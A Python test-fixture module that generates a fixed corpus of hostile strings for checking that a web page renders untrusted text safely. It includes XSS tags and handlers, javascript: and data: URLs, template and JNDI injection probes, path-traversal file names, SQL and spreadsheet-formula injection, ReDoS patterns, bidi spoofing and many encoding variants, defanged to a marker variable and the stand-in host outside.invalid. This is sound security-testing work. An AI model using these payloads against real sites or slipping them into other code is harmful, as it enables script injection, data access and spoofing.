"""
Texts that try to become more than text: at least 500, made by rule from seeds, always the same ones in the same order.

Whatever runs sets ``window.tripped``, asks ``outside.invalid`` for something, opens a dialog or leaves the page;
whoever opens a page with these texts watches for all four. Control characters,
    direction marks and long words stand for those
that break a page without running.
"""

# ruff: noqa: RUF001 - letters that look like others are what is tested

import base64
import html
import json
from collections.abc import Iterator
from dataclasses import dataclass
from urllib.parse import quote

TRIP = "window.tripped=7"
OUTSIDE = "//outside.invalid/x"


@dataclass(frozen=True)
class Hostile:
    """A hostile text and the family that it belongs to."""

    family: str
    text: str


MARKUP = (
    f"<script>{TRIP}</script>",
    f"<img src=nowhere.png onerror={TRIP}>",
    f"<svg onload={TRIP}></svg>",
    f"<svg><script>{TRIP}</script></svg>",
    f"<svg><animate onbegin={TRIP} attributeName=x dur=1s>",
    f"<math><mtext><img src=q onerror={TRIP}></mtext></math>",
    f'<iframe srcdoc="<script>parent.{TRIP}</script>"></iframe>',
    f'<iframe src="javascript:parent.{TRIP}"></iframe>',
    f'<object data="data:text/html,<script>{TRIP}</script>"></object>',
    f'<embed src="{OUTSIDE}.swf">',
    f"<body onload={TRIP}>",
    f"<details open ontoggle={TRIP}><summary>x</summary></details>",
    f"<video><source onerror={TRIP}></video>",
    f"<audio src=q onerror={TRIP}>",
    f"<input autofocus onfocus={TRIP}>",
    f"<select autofocus onfocus={TRIP}></select>",
    f'<a href="javascript:{TRIP}" autofocus tabindex=1 onfocus={TRIP}>x</a>',
    f'<form action="{OUTSIDE}"><button formaction="javascript:{TRIP}">x</button></form>',
    f'<link rel=stylesheet href="{OUTSIDE}.css">',
    f'<link rel=prefetch href="{OUTSIDE}">',
    f'<meta http-equiv=refresh content="0;url={OUTSIDE}">',
    f'<base href="{OUTSIDE}/">',
    f'<img srcset="{OUTSIDE}.png 1x">',
    "<style>*{display:none!important}</style>",
    f"<style>@import '{OUTSIDE}.css';</style>",
    '<p style="position:fixed;inset:0;background:red">over everything</p>',
    f"<template><script>{TRIP}</script></template>",
    f'<noscript><p title="</noscript><img src=q onerror={TRIP}>"></noscript>',
    "<plaintext>",
    "<textarea>",
    "<title>owned</title>",
    "<h1>a second heading</h1>",
    "<!-- never closed",
    "<![CDATA[ never closed",
    "<table><tr><td>in a cell",
    "</table></div></main></body></html>",
)
BREAKOUTS = (
    '">', "'>", "`>", "</td></tr></table>", "</title>", "</textarea>", "</script>", "</ScRiPt\t>", "</style>", "-->",
    "--!>", "]]>", "*/", '\\");', "\\');", "${'", "\\", "</summary></details>", "</pre></code>", "</template>",
)  # fmt: skip
EVENTS = ("onclick", "onmouseover", "onfocus", "onpointerenter", "onanimationstart", "ontoggle", "onerror", "oncopy")
SCHEMES = (
    f"javascript:{TRIP}",
    f"JaVaScRiPt:{TRIP}",
    f"java\tscript:{TRIP}",
    f"java\nscript:{TRIP}",
    f" javascript:{TRIP}",
    f"\x01javascript:{TRIP}",
    f"javascript&colon;{TRIP}",
    f"javascript&#58;{TRIP}",
    f"javascript%3A{TRIP}",
    f"javascript://x%0A{TRIP}",
    f"vbscript:{TRIP}",
    f"data:text/html,<script>{TRIP}</script>",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{TRIP}'/>",
    "file:///etc/hostname",
    "view-source:index.html",
    "blob:null/0",
    OUTSIDE,
    f"https:{OUTSIDE}.png",
    "\\\\outside.invalid\\share",
    "/absolute/from/the/root",
)
LINK_FORMS = (
    "{}",
    "[a link]({})",
    "![an image]({})",
    "<{}>",
    '<a href="{}">a link</a>',
    "[by name][1]\n\n[1]: {} 'title'",
)
TEMPLATES = (
    "{{7*7}}", "{{ config }}", "{% include 'base.html.j2' %}", "{% raw %}", "{% endblock %}", "{# comment", "${7*7}",
    "#{7*7}", "<%= 7*7 %>", "[[7*7]]", "@(7*7)", "%{7*7}", "$(echo x)", "`echo x`", "{0}{1}{name!r}", "%s%n%x",
    "{{''.__class__.__mro__}}", "{{ caller|safe }}", f"{{{{constructor.constructor('{TRIP}')()}}}}", "{% set x = 1 %}",
    "!!python/object/apply:os.getcwd []", "${jndi:ldap:" + OUTSIDE + "}", "<?php echo 1 ?>",
    "<!--#include virtual=x -->",
)  # fmt: skip
CHUNK_CLOSERS = (
    "</script>", "</SCRIPT >", "</script\n>", "<!--<script>", "<\\/script>", "\\u003c/script\\u003e", "\u2028",
    "\u2029",
    'a"b', "a'b", "a\\", 'a\\"', f'");{TRIP};("', f'"}});{TRIP};//', f"*/{TRIP}/*", f"\u2028{TRIP}\u2028",
    'trainsite.add("build",{"id":"owned"});', "]}", "\\u0000", "\\ud800", "\r\n", "\x85",
)  # fmt: skip
DIRECTIONS = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
CONTROLS = [*range(0x20), 0x7F, 0x80, 0x85, 0x9B, 0x9C, 0x9D]
NAMES = (
    "../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fx", "..%252f..%252fx", "....//....//x",
    "a/../../../../x", "./.././x", "C:\\autoexec.bat", "C:x", "\\\\?\\C:\\x", "CON", "nul.txt", "aux", "com1.html",
    "x.",
    "x ", " x", "file.txt:stream", "~root/x", "-rf", "--help", "raw/secret.txt", ".trainsite/lock", ".htaccess",
    "index.html", "collection-manifest.json", "a\nb.html", "a\x00.html", "name\u202efdp.exe", "con\u200b.txt",
    "*?<>|.js",
    "#fragment", "?query=1", "a&b=c;d", "%00", "%", "a%2Fb", "ﬁle.html", "e\u0301.html", "\u00e9.html", "/", "//",
    ".", "..",
)  # fmt: skip
MARKDOWN = (
    "# A heading", "A heading\n===", "---\ntitle: owned\n---", "| a | b |\n|---|---|\n| c | d |", "a | b | c", "\\| \\",
    "```html\n<b>never closed", "~~~\n```\n~~~", "`` ` ``", "> " * 60 + "deep", "- " * 60 + "deep", "1. " * 60 + "deep",
    "[" * 300, "](" * 200, "*" * 300, "_a" * 200, "**a *b **c *d" * 40, "![[![[" * 40, "<details><summary>x</summary>",
    "[^1]\n\n[^1]: a note", "[x]: index.html", "- [x] done\n- [ ] open", "&lt;script&gt;", "&#60;script&#62;",
    "&amp;amp;",
    "&notanentity;", "&#0;&#x110000;", "\\<b\\>", "<b>bold</b>", "Line  \nbreak\\\nbreak", "\tcode by tab", "    code",
    "[a](<b c> 't')", "[a](b 't\"><i>')", "<https:" + OUTSIDE + ">", "www.outside.invalid", "x@y", "$$x^2$$",
    "~~gone~~", "==marked==", "Term\n: meaning", "::: warning\nx\n:::", "{.class #id}", "<!-- comment -->",
)  # fmt: skip
FORMULAS = ("1+1", f'HYPERLINK("https:{OUTSIDE}","x")', "SUM(A1:A9)", "cmd|' /C x'!A0", "IMPORTXML(1;2)")
FORMULA_SIGNS = ("=", "+", "-", "@", "\t=", "\r=", " =", "\uff1d", '"=', ";=", "|=")
PROPERTIES = (
    "__proto__", "constructor", "prototype", "toString", "valueOf", "toJSON", "hasOwnProperty", "isPrototypeOf",
    "__defineGetter__", "__lookupSetter__", "then", "length", "name", "innerHTML", "document", "window", "location",
    "cookie", "undefined", "null", "NaN", "Infinity", "true", "[object Object]", "-0", "1e309", "0x10", "007", "1_000",
    "9007199254740993", "chunks", "trainsite", "main", "body", "forms", "getElementById", "t-runs", "data-table", "on",
    "None", "nan", "{}", "[]", '{"__proto__":{"polluted":true}}', '{"constructor":{"prototype":{"polluted":true}}}',
)  # fmt: skip
LONG = (
    "a" * 5000,
    "W" * 400,
    "https:" + OUTSIDE + "/" + "segment/" * 120,
    "a_b" * 300,
    "漢" * 800,
    "👩‍👩‍👧‍👦" * 120,
    "\u200b" * 900,
    "\u00a0" * 600,
    "&nbsp;" * 200,
    "<" * 700,
    "[" * 500 + "]" * 500,
    '{"a":' * 120 + "1" + "}" * 120,
    "line\n" * 300,
    "\n" * 200 + "at the end",
    " " * 400 + "behind spaces",
    "Z" + "\u0301\u0323\u0334" * 60,
    "\ufdfd" * 40,
    "\U00012031" * 60,
    "word " * 900,
    "\t" * 120 + "behind tabs",
)
RIGHT_TO_LEFT = (
    "שלום עולם", "مرحبا بالعالم", "abc אבג 123 דהו xyz", "١٢٣٤٫٥", "ߒߞߏ", "ܫܠܡܐ", "(שלום) [abc] {עולם}",
    "שלום <b>עולם</b>",
    "user: אב\u202eadmin", "50% תקין", "C++ ו-Java", "اسم.pdf",
)  # fmt: skip
EMOJI = (
    "👩‍🔬", "🏴󠁧󠁢󠁳󠁣󠁴󠁿", "🇨🇭🇯🇵", "👍🏿", "1️⃣", "❤️❤︎", "🧑🏽‍🤝‍🧑🏻", "🫠", "\ufe0f", "\u200d", "🏳️‍🌈\u20e0", "©™®",
)  # fmt: skip
ZERO_WIDTH = "\u00ad\u034f\u115f\u17b4\u180e\u200b\u200c\u200d\u2060\u2061\u2062\u2063\u2064\u3164\ufeff\uffa0"
ANSI = (
    "\x1b[31mred\x1b[0m", "\x1b[1;38;5;196mloud", "\x1b[38;2;1;2;3m\x1b[48;5;1mboth", "\x1b[2J\x1b[Hcleared",
    "\x1b[10Aup", "\x1b]0;owned\x07", f"\x1b]8;;javascript:{TRIP}\x07link\x1b]8;;\x07",
    f"\x1b]8;;https:{OUTSIDE}\x1b\\x",
    "\x1bPq#0~\x1b\\", "\x9b31mone byte", "\x1b[999999999999m", "\x1b[31", "\x1b", "a\rb\rc", "a\b\b\bb",
    "\x1b[8mhidden",
)  # fmt: skip
STYLES = (
    "}body{display:none}", "expression(" + TRIP + ")", f"url(javascript:{TRIP})", f"url({OUTSIDE})",
    "red;position:fixed",
    "</style><style>*{color:#000;background:#000}", "\\3c script>", "@import url(" + OUTSIDE + ");", "a:hover{}", "/*",
    "table wide sticky hidden", "t-runs-row",
)  # fmt: skip
QUERIES = (
    "'; DROP TABLE runs; --", '" OR ""="', "1; ATTACH 'x.db'; --", "$$;COPY runs TO 'x'", "%' ESCAPE '", "NULL",
    "\\'", "''",
    "(a+)+$", "[", "(?=", "\\", ".*.*.*.*x", "^(([a-z])+.)+$",
)  # fmt: skip
BLANKS = (
    " ",
    "\t",
    "\n",
    "\u00a0",
    "\u3000",
    "\u2003",
    "\u1680",
    "\u2800",
    "\u205f",
    ".",
    "-",
    "0",
    "\u00b7",
    "\u0378",
)
ODD = (
    "\ufffe", "\uffff", "\U0010ffff", "\ufdd0", "\ue000", "\U000f0000", "\ufff9a\ufffab\ufffb", "\ufffd", "\ufffc",
    "\u0340", "\u2126", "\u212b", "ſ", "İı", "ß", "ǅ", "\U0001d4d0", "\u1e9e",
)  # fmt: skip
ENCODED = (
    MARKUP[0],
    MARKUP[1],
    MARKUP[2],
    f"javascript:{TRIP}",
    f'" onclick="{TRIP}',
    "</script>",
    "../../x",
    "{{7*7}}",
)


def corpus() -> tuple[Hostile, ...]:
    """Return every hostile text once, family by family."""
    found: dict[str, Hostile] = {}
    for hostile in _all():
        found.setdefault(hostile.text, hostile)
    return tuple(found.values())


def texts() -> tuple[str, ...]:
    """Return the texts of the corpus."""
    return tuple(hostile.text for hostile in corpus())


def _all() -> Iterator[Hostile]:
    lists = {
        "markup": MARKUP, "template": TEMPLATES, "chunk": CHUNK_CLOSERS, "name": NAMES, "markdown": MARKDOWN,
        "property": PROPERTIES, "long": LONG, "rtl": RIGHT_TO_LEFT, "emoji": EMOJI, "ansi": ANSI, "style": STYLES,
        "query": QUERIES, "blank": BLANKS, "odd": ODD,
    }  # fmt: skip
    for family, members in lists.items():
        yield from (Hostile(family, text) for text in members)
    yield from (Hostile("breakout", text) for text in _breakouts())
    yield from (Hostile("handler", text) for text in _handlers())
    yield from (Hostile("link", form.format(scheme)) for scheme in SCHEMES for form in LINK_FORMS)
    yield from (Hostile("direction", text) for text in _directions())
    yield from (Hostile("control", f"before{chr(code)}after") for code in CONTROLS)
    yield from (Hostile("formula", sign + formula) for sign in FORMULA_SIGNS for formula in FORMULAS)
    yield from (Hostile("zero-width", f"pay{mark}load{mark}") for mark in ZERO_WIDTH)
    yield from (Hostile("encoded", text) for payload in ENCODED for text in _encodings(payload))


def _breakouts() -> Iterator[str]:
    for way_out in BREAKOUTS:
        yield way_out + MARKUP[0]
        yield way_out + MARKUP[1]
        yield f"{way_out}{TRIP}//"


def _handlers() -> Iterator[str]:
    for event in EVENTS:
        for mark in ('"', "'", "`", ""):
            yield f"x{mark} {event}={mark}{TRIP}{mark} autofocus tabindex=1 data-x={mark}"


def _directions() -> Iterator[str]:
    for mark in DIRECTIONS:
        yield f"invoice{mark}fdp.exe"
        yield f"{mark * 20}begun and never ended"


def _encodings(text: str) -> Iterator[str]:
    """Yield the forms in which a text comes through a decoder too many."""
    yield json.dumps(text)
    yield "".join(f"\\u{ord(character):04x}" for character in text)
    yield "".join(f"\\x{ord(character):02x}" for character in text)
    yield html.escape(text)
    yield "".join(f"&#{ord(character)};" for character in text)
    yield "".join(f"&#x{ord(character):x}" for character in text)
    yield quote(text, safe="")
    yield quote(quote(text, safe=""), safe="")
    yield "data:text/html;base64," + base64.b64encode(text.encode()).decode()
    yield "".join(chr(ord(character) + 0xFEE0) if "!" <= character <= "~" else character for character in text)
    yield "+ADw-" + text.replace("<", "+ADw-").replace(">", "+AD4-")
